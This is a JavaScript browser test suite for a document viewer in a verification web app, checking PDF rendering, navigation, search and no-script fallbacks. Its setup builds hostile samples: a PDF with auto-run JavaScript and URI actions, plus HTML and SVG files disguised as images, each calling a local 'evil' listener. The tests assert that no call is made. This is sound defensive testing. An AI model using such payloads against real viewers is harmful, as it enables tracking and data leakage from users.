// SPDX-License-Identifier: ISC
//
// Evidence beside its criterion in a real browser: drawn, turned, searched; on a wide screen, on a
// phone, without scripts. And hostile files, with a listener at the other end that must hear nothing.

import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import http from 'node:http';
import { after, before, beforeEach, describe, it } from 'node:test';
import { PASSWORD, settle } from '../web/city.mjs';
import { pdfOf, png } from '../web/files.mjs';
import { ROOT, startStack } from '../web/harness.mjs';
import { pdfWith } from '../web/hostile.mjs';
import { store } from '../web/stored.mjs';
import { startChromium, WINDOWS } from './browser.mjs';

let stack, city, id, chromium, listener, evil;
const calls = [];
const kept = {};

before(async () => {
	stack = await startStack();
	city = settle(stack);
	id = city.assessment('Dinas Contoh Satu');
	city.setState(id, 'submitted');
	listener = http.createServer((request, answer) => { calls.push(request.url); answer.end(); });
	await new Promise((done) => { listener.listen(0, '127.0.0.1', done); });
	evil = `http://127.0.0.1:${listener.address().port}`;

	const put = (name, item, title, bytes, type = 'application/pdf') => {
		const made = city.link(id, item.id, { title });
		kept[name] = { ...made, ...store(stack, made.revision, bytes, type) };
	};
	const [first, second] = city.items(1);
	put('three', first, 'Rencana kerja', pdfOf(['Halaman satu', 'Halaman dua langka', 'Halaman tiga']));
	put('image', second, 'Foto kegiatan', png('foto'), 'image/png');
	put('last', city.items(4)[0], 'Notulen', pdfOf(['Notulen rapat']));
	const call = `app.launchURL('${evil}/js', true); this.submitForm('${evil}/form'); app.alert('ran')`;
	put('script', city.items(5)[0], 'PDF berskrip', pdfOf(['Berskrip'], {
		catalog: `/OpenAction<</S/JavaScript/JS(${call.replace(/[()\\]/g, '\\$&')})>>/AA<</WC<</S/URI/URI(${evil}/uri)>>>>`,
		page: `/AA<</O<</S/JavaScript/JS(${call.replace(/[()\\]/g, '\\$&')})>>>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(${evil}/link)>>>>]` }));
	put('html', city.items(5)[1], 'HTML bernama PNG', Buffer.from(`<!doctype html><script>fetch('${evil}/html')</script>
		<img src="${evil}/img">`), 'image/png');
	put('svg', city.items(5)[2], 'SVG bernama JPEG', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">
		<script>fetch('${evil}/svg')</script><image href="${evil}/svgimg"/></svg>`), 'image/jpeg');
	put('broken', city.items(5)[3], 'PDF rusak', Buffer.concat([Buffer.from('%PDF-1.4\n'), randomBytes(600_000)]));
	chromium = await startChromium();
});
after(async () => {
	await chromium?.close();
	listener?.close();
	await stack?.stop();
});
beforeEach(() => stack.sql(`UPDATE evidence_link SET city_decision = NULL, city_reason = '', city_revision_id = NULL`));

async function open(path, how = {}) {
	const window = await chromium.window({ base: stack.base, ...how });
	await window.signIn('verifikator', PASSWORD);
	await window.go(path);
	return window;
}
const inside = (window) => window.page.frameLocator('.matang-viewer__frame');
const frameOf = (window) => window.page.frames().find((one) => /\/upload\/frame\//.test(one.url()));
/* The sheet is there when its page is drawn, and no page is drawn that nobody can see. */
async function drawn(window, page) {
	await window.page.locator('.matang-viewer').scrollIntoViewIfNeeded();
	await inside(window).locator(`.sheet[data-page="${page}"] canvas`).waitFor();
}

for (const how of WINDOWS)
	it(`${how.name}: the page of a variable has no fault`, async () => {
		const window = await open(`/verify/${id}/1?view=${kept.image.link}`, how);
		if (how.scripts)
			await inside(window).locator('.picture').waitFor();
		await window.checks();
		await window.picture(`viewer-${how.width}-${how.scripts}`);
		const viewer = await window.page.locator('.matang-viewer').boundingBox();
		const work = await window.page.locator('.matang-desk__work').boundingBox();
		if (how.width > 900)
			assert.ok(viewer.x + viewer.width <= work.x && Math.abs(viewer.y - work.y) < 2, 'side by side');
		else
			assert.ok(viewer.y + viewer.height <= work.y, 'one above the other');
		await window.close();
	});

describe('a PDF', () => {
	it('is drawn, page by page, with its text for those who listen', async () => {
		const window = await open(`/verify/${id}/1?view=${kept.three.link}`);
		await drawn(window, 1);
		const frame = frameOf(window);
		const dark = await frame.evaluate(() => {
			const canvas = document.querySelector('.sheet canvas');
			const { data } = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height);
			return data.filter((value, i) => i % 4 === 0 && value < 100).length;
		});
		assert.ok(dark > 100, `${dark} dark pixels`);
		await inside(window).getByText('Halaman satu').waitFor();
		assert.equal(await inside(window).locator('#status').innerText(), 'Halaman 1 dari 3');
		await inside(window).locator('#on').click();
		await drawn(window, 2);
		assert.equal(await inside(window).locator('#status').innerText(), 'Halaman 2 dari 3');
		await inside(window).locator('#stage').press('ArrowRight');
		await drawn(window, 3);
		assert.ok(await inside(window).locator('#on').isDisabled());
		await inside(window).locator('#stage').press('Home');
		await drawn(window, 1);
		await inside(window).locator('#wanted').fill('LANGKA');
		await inside(window).locator('#wanted').press('Enter');
		await inside(window).locator('.found').waitFor();
		assert.match(await inside(window).locator('#status').innerText(), /“LANGKA” ada di halaman 2 dari 3/);
		const wide = (await inside(window).locator('.sheet').boundingBox()).width;
		await inside(window).locator('#larger').click();
		await frame.waitForFunction((before) => document.querySelector('.sheet').clientWidth > before, wide);
		assert.deepEqual(window.problems, []);
		await window.close();
	});

	it('is fetched in parts, of which a long one needs few', async () => {
		const long = pdfOf(['Panjang'], { filler: 3 << 20 });
		store(stack, kept.last.id, long);
		const window = await chromium.window({ base: stack.base });
		let fetched = 0;
		window.page.on('response', async (answer) => {
			if (/upload\/file/.test(answer.url()))
				fetched += Number(answer.headers()['content-length']);
		});
		await window.signIn('verifikator', PASSWORD);
		await window.go(`/verify/${id}/4`);
		await drawn(window, 1);
		assert.ok(fetched > 0 && fetched < long.length / 4, `${fetched} of ${long.length} bytes`);
		await window.close();
	});

	const drawing = (content, resources, more = []) => pdfWith('/X 5 0 R', [...[`<</Length ${content.length}>>stream\n${content}\nendstream`],
		`<<${resources}>>`, ...more]).toString('latin1').replace('/MediaBox[0 0 595 842]', '/MediaBox[0 0 595 842]/Contents 4 0 R/Resources 5 0 R');
	const statusOf = (window) => inside(window).locator('#status').innerText();

	it('in a font and a character map that are not in it is drawn', async () => {
		store(stack, kept.last.id, readFileSync(`${ROOT}/tests/inputs/predefined-cmap-font.pdf`));
		const window = await open(`/verify/${id}/4`);
		await drawn(window, 1);
		await inside(window).getByText('あい').waitFor();
		await inside(window).getByText('Lembar pindaian OCR').waitFor();
		assert.equal(await statusOf(window), '');
		await window.close();
	});

	it('says when something of a page is left out, and where it can be seen', async () => {
		/* an image that is none beside a text; the map of its font is not to be had; nothing at all */
		store(stack, kept.last.id, Buffer.from(drawing('BT /F 18 Tf 72 700 Td (Ada) Tj ET 200 0 0 200 72 72 cm /I Do',
			'/Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>/XObject<</I 6 0 R>>',
			['<</Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/DCTDecode/Length 4>>stream\nrusak\nendstream']), 'latin1'));
		let window = await open(`/verify/${id}/4`);
		await drawn(window, 1);
		await inside(window).getByText('Sebagian isi halaman ini tidak dapat ditampilkan').waitFor();
		assert.match(await window.page.locator('[data-viewer-download]').first().getAttribute('href'), new RegExp(`/upload/file/${kept.last.id}$`));
		await window.close();

		store(stack, kept.last.id, readFileSync(`${ROOT}/tests/inputs/predefined-cmap-font.pdf`));
		window = await chromium.window({ base: stack.base });
		await window.signIn('verifikator', PASSWORD);
		await window.page.route('**/*.bcmap', (route) => route.abort());
		await window.go(`/verify/${id}/4`);
		await drawn(window, 1);
		await inside(window).getByText('Sebagian isi halaman ini tidak dapat ditampilkan').waitFor();
		await window.close();

		store(stack, kept.last.id, Buffer.from(drawing('', ''), 'latin1'));
		window = await open(`/verify/${id}/4`);
		await drawn(window, 1);
		await inside(window).getByText('Halaman ini tampak kosong di sini').waitFor();
		await window.close();
	});

	it('that is none says so, and can be saved', async () => {
		const window = await open(`/verify/${id}/5?view=${kept.broken.link}`);
		await inside(window).getByText('tidak dapat ditampilkan di sini').waitFor();
		assert.match(await window.page.locator('[data-viewer-download]').getAttribute('href'), new RegExp(`/upload/file/${kept.broken.id}$`));
		await window.close();
	});
});

it('what runs in the frame is nobody: no origin, no cookie, no storage, no line out', async () => {
	const window = await open(`/verify/${id}/1?view=${kept.three.link}`);
	await drawn(window, 1);
	const found = await frameOf(window).evaluate(async ([ours, theirs]) => {
		const attempt = async (act) => { try { return String(await act()); } catch { return 'refused'; } };
		return {
			origin: self.origin,
			cookie: await attempt(() => document.cookie),
			storage: await attempt(() => localStorage.length),
			above: await attempt(() => parent.document.title),
			ours: await attempt(async () => (await fetch(ours)).status),
			theirs: await attempt(async () => (await fetch(theirs)).status),
			image: await attempt(() => new Promise((done, fail) => {
				const image = new Image(); image.onload = done; image.onerror = fail; image.src = `${theirs}/image`;
			})),
			run: await attempt(() => new Function('return 1')()),
			top: await attempt(() => { top.location = theirs; return top.location.href; }),
		};
	}, [`${stack.base}/verify/`, evil]);
	assert.deepEqual(found, { origin: 'null', cookie: 'refused', storage: 'refused', above: 'refused',
		ours: 'refused', theirs: 'refused', image: 'refused', run: 'refused', top: 'refused' });
	/* nor can it leave for another place itself: the page around it allows frames of ours alone */
	await frameOf(window).evaluate((away) => { location.href = away; }, `${evil}/away`).catch(() => {});
	await window.page.waitForTimeout(300);
	assert.deepEqual(calls, []);
	assert.match(window.page.url(), /\/verify\//);
	await window.close();
});

it('hostile files run nothing and call nobody, scripts on or off', async () => {
	for (const scripts of [true, false])
		for (const name of ['script', 'html', 'svg']) {
			const window = await open(`/verify/${id}/5?view=${kept[name].link}`, { scripts });
			window.page.on('dialog', (dialog) => calls.push(`dialog ${dialog.message()}`));
			if (scripts && name === 'script') {
				await drawn(window, 1);
				await inside(window).locator('.sheet').click();
			} else if (scripts)
				await inside(window).getByText('tidak dapat ditampilkan').waitFor();
			/* and looked at directly, as somebody might who is sent the address */
			await window.page.goto(`${stack.base}/upload/view/${kept[name].id}`);
			await window.page.goto(`${stack.base}/upload/frame/${kept[name].id}`);
			await window.page.waitForTimeout(200);
			await window.close();
		}
	assert.deepEqual(calls, []);
});

describe('the way of the verifier', () => {
	it('by the keyboard: choose, Alt+N, and the next document is there', async () => {
		const window = await open(`/verify/${id}/undecided`);
		await drawn(window, 1);
		assert.match(window.page.url(), new RegExp(`view=${kept.three.link}`));
		await window.page.locator(`#decision-${kept.three.link}-accepted`).check();
		await Promise.all([window.page.waitForURL(new RegExp(`view=${kept.image.link}`)), window.page.keyboard.press('Alt+n')]);
		await inside(window).locator('.picture').waitFor();
		/* also from within the frame, where the keys go to the document */
		await window.page.locator(`#decision-${kept.image.link}-accepted`).check();
		await inside(window).locator('#stage').focus();
		await Promise.all([window.page.waitForURL(new RegExp(`/${id}/4\\?view=${kept.last.link}`)), window.page.keyboard.press('Alt+n')]);
		assert.deepEqual(stack.sql(`SELECT city_decision AS d FROM evidence_link WHERE id IN (${kept.three.link}, ${kept.image.link})`)
			.map((one) => one.d), ['accepted', 'accepted']);
		await window.close();
	});

	it('another document of the list is shown without losing what was typed', async () => {
		const window = await open(`/verify/${id}/1?view=${kept.three.link}`);
		await window.page.locator(`#decision-${kept.three.link}-rejected`).check();
		await window.page.locator(`#why-${kept.three.link}`).fill('Belum ditandatangani');
		await window.page.locator(`#link-${kept.image.link} a[data-view]`).click();
		await inside(window).locator('.picture').waitFor();
		assert.equal(await window.page.locator('#viewer-title').innerText(), 'Foto kegiatan');
		assert.equal(await window.page.locator(`#why-${kept.three.link}`).inputValue(), 'Belum ditandatangani');
		assert.equal(await window.page.locator('[data-viewer-after]').getAttribute('value'), String(kept.image.link));
		await window.close();
	});

	it('in a window of its own it is drawn as well, and said to need scripts only where there are none', async () => {
		const window = await open(`/upload/view/${kept.three.revision}`);
		await drawn(window, 1);
		await window.checks();
		await window.close();
		const plain = await open(`/upload/view/${kept.three.revision}`, { scripts: false });
		await inside(plain).getByText('hanya dapat ditampilkan bila JavaScript diizinkan').waitFor();
		await plain.close();
	});

	it('without scripts: images in their frame, the rest by a link, the button all the same', async () => {
		const window = await open(`/verify/${id}/1?view=${kept.three.link}`, { scripts: false });
		await inside(window).getByText('hanya dapat ditampilkan bila JavaScript diizinkan').waitFor();
		await window.page.locator(`#link-${kept.image.link} a[data-view]`).click();
		await inside(window).locator('img').waitFor();
		await window.page.locator(`#decision-${kept.three.link}-accepted`).check();
		await window.page.getByRole('button', { name: 'Simpan, lalu dokumen berikutnya' }).click();
		await window.page.waitForURL(new RegExp(`view=${kept.image.link}`));
		await window.close();
	});
});

it('a document of the library opens below its revisions', async () => {
	const window = await open(`/upload/document/${kept.three.document}`);
	assert.ok(await window.page.locator('.matang-viewer').isHidden());
	await window.page.getByRole('link', { name: 'Lihat revisi 1' }).click();
	await drawn(window, 1);
	await window.checks();
	await window.close();
});
